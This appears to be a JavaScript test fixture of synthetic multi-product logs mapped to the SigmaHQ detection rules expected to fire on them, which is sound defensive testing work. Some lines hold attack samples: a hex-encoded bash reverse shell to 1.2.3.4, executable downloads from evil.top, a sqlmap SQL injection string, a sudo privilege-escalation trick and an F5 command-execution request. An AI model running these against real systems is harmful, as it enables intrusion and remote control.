// Logs of many products, made up by us, and which rules of SigmaHQ must find what in them:
// [record, title of the rule]. Tests that have those rules at hand hunt in them.

export const products = [
	{
		name: 'audit.log',
		lines: [
			'type=SYSCALL msg=audit(1364481363.243:24287): arch=c000003e syscall=59 success=yes exit=0 a0=7f items=2 ppid=2686 pid=3538 auid=1000 uid=0 euid=33 tty=pts0 ses=1 comm="steghide" exe="/usr/bin/steghide" key="x"',
			'type=EXECVE msg=audit(1364481363.243:24287): argc=6 a0="steghide" a1="embed" a2="-cf" a3="cover.jpg" a4="-ef" a5="secret"',
			'type=CWD msg=audit(1364481363.243:24287): cwd="/root"',
			'type=PROCTITLE msg=audit(1364481363.243:24287): proctitle="steghide"',
			'type=SYSCALL msg=audit(1364481364.243:24288): arch=c000003e syscall=41 success=yes exit=3 a0=26 a1=2 ppid=2686 pid=3538 auid=1000 uid=0 exe="/tmp/x" comm="x"',
			'type=PROCTITLE msg=audit(1364481364.243:24288): proctitle="x"',
			'type=SERVICE_STOP msg=audit(1364481365.243:24289): pid=1 uid=0 msg=\'unit=ufw comm="systemd" exe="/lib/systemd/systemd" res=success\'',
			'type=SYSCALL msg=audit(1364481366.243:24290): arch=c000003e syscall=59 success=yes ppid=1 pid=2 uid=0 comm="bash" exe="/usr/bin/bash"',
			'type=EXECVE msg=audit(1364481366.243:24290): argc=3 a0="bash" a1="-c" a2=62617368202D69203E26202F6465762F7463702F312E322E332E342F34343420303E2631',
		],
		found: [
			[1, 'Steganography Hide Files with Steghide'],
			[1, 'Webshell Remote Command Execution'],
			[2, 'Linux AF_ALG Socket Creation - Kernel Crypto API Exploit Indicator'],
			[3, 'Disable System Firewall'],
			[4, 'Bash Interactive Shell'],
		],
	},
	{
		name: 'zeek.log',
		lines: [
			'#separator \\x09',
			'#set_separator\t,',
			'#path\tsmb_files',
			'#fields\tts\tuid\tid.orig_h\tid.resp_h\taction\tpath\tname',
			'#types\ttime\tstring\taddr\taddr\tenum\tstring\tstring',
			'1300475167.096535\tC\t10.0.0.5\t10.0.0.1\tSMB::FILE_OPEN\t\\\\\\\\srv\\\\IPC$\tatsvc',
			'1300475167.096535\tC\t10.0.0.5\t10.0.0.1\tSMB::FILE_OPEN\t\\\\\\\\srv\\\\ADMIN$\tSYSTEM32\\\\ab.tmp',
		],
		found: [
			[2, 'Possible Impacket SecretDump Remote Activity - Zeek'],
		],
	},
	{
		name: 'cloud.ndjson',
		lines: [
			'{"eventVersion":"1.08","eventTime":"2026-11-20T08:01:02Z","eventSource":"cloudtrail.amazonaws.com","eventName":"StopLogging"}',
			'{"time":"2026-11-20T08:01:02Z","resourceId":"/t","operationName":"Add member to role","category":"AuditLogs","properties":{"result":"success","activityDisplayName":"Add member to role","targetResources":[{"type":"Service Principal","displayName":"Admins"}]}}',
			'{"eventType":"user.account.lock","published":"2026-11-20T08:01:02Z","displayMessage":"Max sign in attempts exceeded"}',
			'{"CreationTime":"2026-11-20T08:01:02","Operation":"Set-Mailbox","RecordType":1,"Workload":"Exchange","ResultStatus":"True","Parameters":[{"Name":"ForwardingSmtpAddress","Value":"smtp:a@b"}]}',
			'{"CreationTime":"2026-11-20T08:01:02","Operation":"AlertTriggered","RecordType":40,"Workload":"SecurityComplianceCenter","Name":"Impossible travel activity"}',
			'{"kind":"Event","auditID":"1","verb":"create","requestURI":"/api","objectRef":{"resource":"pods","subresource":"exec"}}',
			'{"protoPayload":{"serviceName":"dns.googleapis.com","methodName":"Dns.ManagedZones.Delete"},"logName":"projects/p/logs/x"}',
			'{"kind":"admin#reports#activity","id":{"time":"2026-11-20T08:01:02Z","applicationName":"admin"},"events":[{"name":"ASSIGN_ROLE"}]}',
			'{"riskEventType":"leakedCredentials","riskState":"atRisk"}',
			'{"@odata.type":"#microsoft.graph.noMfaOnRoleActivationAlertIncident","assigneeDisplayName":"a"}',
			'{"action":"org.disable_two_factor_requirement","actor":"a","org":"o","_document_id":"x"}',
			'{"logtype":4000,"node_id":"opencanary-1","src_host":"1.2.3.4"}',
			'{"EventLog":"RPCFW","EventID":3,"OpNum":1,"InterfaceUuid":"1ff70682-0a51-30e8-076d-740be8cee98b"}',
			'{"timestamp":"2026-11-20T08:01:02.0+0000","flow_id":1,"event_type":"dns","src_ip":"10.0.0.5","dest_ip":"10.0.0.1","dns":{"rrname":"x.onion.ly","rrtype":"A"}}',
			'{"timestamp":"2026-11-20T08:01:02.0+0000","flow_id":1,"event_type":"http","src_ip":"10.0.0.5","dest_ip":"10.0.0.1","http":{"hostname":"evil.top","url":"/a.exe","http_method":"GET","http_user_agent":"sqlmap/1"}}',
		],
		found: [
			[1, 'AWS CloudTrail Important Change'],
			[2, 'User Added to an Administrator\'s Azure AD Role'],
			[3, 'Okta User Account Locked Out'],
			[4, 'Mail Forwarding/Redirecting Activity In O365'],
			[5, 'Microsoft 365 - Impossible Travel Activity'],
			[6, 'Potential Remote Command Execution In Pod Container'],
			[7, 'Google Cloud DNS Zone Modified or Deleted'],
			[9, 'Azure AD Account Credential Leaked'],
			[10, 'Roles Activation Doesn\'t Require MFA'],
			[11, 'Github High Risk Configuration Disabled'],
			[12, 'OpenCanary - SSH New Connection Attempt'],
			[13, 'Remote Schedule Task Lateral Movement via ATSvc'],
			[15, 'Download From Suspicious TLD - Blacklist'],
			[15, 'Suspicious User-Agents Related To Recon Tools'],
		],
	},
	{
		name: 'sys.log',
		lines: [
			'Nov 20 08:01:02 web1 sudo: tanaka : TTY=pts/0 ; PWD=/ ; USER=#-1 ; COMMAND=/bin/sh',
			'Nov 20 08:01:02 web1 sshd[7]: fatal: buffer_get_string: bad string length',
			'<189>Nov 20 08:01:02 sw1 123: %PARSER-5-CFGLOG_LOGGEDCMD: User:a  logged command:show history all',
			'<14>date=2026-11-20 time=08:01:02 devname="FG" devid="FG1" logid="0100044547" type="event" subtype="system" action="Add" cfgpath="system.admin"',
			'Nov 20 08:01:02 web1 clamd[5]: /srv/up/x.php: Php.Webshell.Meterpreter FOUND',
			'Nov 20 08:01:02 web1 kernel: [UFW ALLOW] IN=eth0 OUT= SRC=198.51.100.7 DST=10.0.0.1 PROTO=TCP SPT=4444 DPT=23',
		],
		found: [
			[1, 'Sudo Privilege Escalation CVE-2019-14287 - Builtin'],
			[2, 'Suspicious OpenSSH Daemon Error'],
			[3, 'Cisco Show Commands Input'],
			[4, 'FortiGate - New Administrator Account Created'],
			[5, 'Antivirus - Web Shell Detection Signature'],
			[5, 'Relevant ClamAV Message'],
			[6, 'Cleartext Protocol Usage'],
		],
	},
	{
		name: 'access.log',
		lines: [
			'203.0.113.7 - - [10/Oct/2026:13:55:36 -0700] "GET /x?id=1%20union%20all%20select HTTP/1.1" 200 2326 "-" "sqlmap/1.7"',
			'203.0.113.7 - - [10/Oct/2026:13:55:36 -0700] "POST /mgmt/tm/util/bash HTTP/1.1" 200 2326 "-" "x"',
		],
		found: [
			[1, 'SQL Injection Strings In URI'],
			[2, 'F5 BIG-IP iControl Rest API Command Execution - Webserver'],
		],
	},
	{
		name: 'squid.log',
		lines: [
			'1763625662.586    921 192.168.0.68 TCP_MISS/200 507 GET http://evil.top/a/b.exe - DIRECT/198.51.100.9 text/html',
		],
		found: [
			[1, 'Download From Suspicious TLD - Blacklist'],
		],
	},
];
